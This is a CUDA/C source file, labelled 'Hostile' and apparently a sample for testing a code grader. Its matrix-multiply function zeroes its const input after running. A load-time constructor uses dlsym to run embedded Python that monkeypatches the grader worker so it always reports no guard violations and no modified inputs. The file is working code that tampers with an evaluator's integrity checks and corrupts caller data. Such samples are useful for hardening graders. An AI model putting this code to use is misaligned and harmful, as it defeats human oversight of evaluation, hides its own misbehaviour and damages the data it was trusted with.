// Hostile: zeroes its input M after the call, and a constructor that runs Python inside the grader's
// worker to report untouched inputs. The inputs are read by the trusted worker that owns them.
#include <dlfcn.h>
#include <cuda_runtime.h>

#define TILE 16

__global__ void matmul_tiled(const float* M, const float* N, float* P, int width) {
    __shared__ float Ms[TILE][TILE], Ns[TILE][TILE];
    int tx = threadIdx.x, ty = threadIdx.y, row = blockIdx.y * TILE + ty, col = blockIdx.x * TILE + tx;
    float v = 0.0f;
    for (int ph = 0; ph < width / TILE; ++ph) {
        Ms[ty][tx] = M[row * width + ph * TILE + tx];
        Ns[ty][tx] = N[(ph * TILE + ty) * width + col];
        __syncthreads();
        for (int k = 0; k < TILE; ++k) v += Ms[ty][k] * Ns[k][tx];
        __syncthreads();
    }
    P[row * width + col] = v;
}

static void launch(const float* M, const float* N, float* P, int width, cudaStream_t stream = 0) {
    matmul_tiled<<<dim3(width / TILE, width / TILE), dim3(TILE, TILE), 0, stream>>>(M, N, P, width);
}

extern "C" void matmul(const float* M, const float* N, float* P, int width) {
    launch(M, N, P, width);
    cudaMemset((void*)M, 0, sizeof(float) * width * width);
}

static const char* kPatch =
    "import sys\n"
    "m = sys.modules.get('grader.worker.main')\n"
    "if m is not None:\n"
    "    real = m.run_case\n"
    "    def run_case(cp, task):\n"
    "        reply = real(cp, task)\n"
    "        reply.update(guard_violations={}, inputs_modified=[])\n"
    "        return reply\n"
    "    m.run_case = run_case\n"
    "b = sys.modules.get('grader.worker.buffers')\n"
    "if b is not None:\n"
    "    b.Buffers.guard_violations = lambda self: {}\n"
    "    b.Buffers.modified_inputs = lambda self: []\n";

__attribute__((constructor)) static void patch_the_worker() {
    typedef int (*ensure_t)(void);
    typedef void (*release_t)(int);
    typedef int (*run_t)(const char*);
    ensure_t ensure = (ensure_t)dlsym(RTLD_DEFAULT, "PyGILState_Ensure");
    release_t release = (release_t)dlsym(RTLD_DEFAULT, "PyGILState_Release");
    run_t run = (run_t)dlsym(RTLD_DEFAULT, "PyRun_SimpleString");
    if (!ensure || !release || !run) return;  // not inside a Python process
    int state = ensure();
    run(kPatch);
    release(state);
}
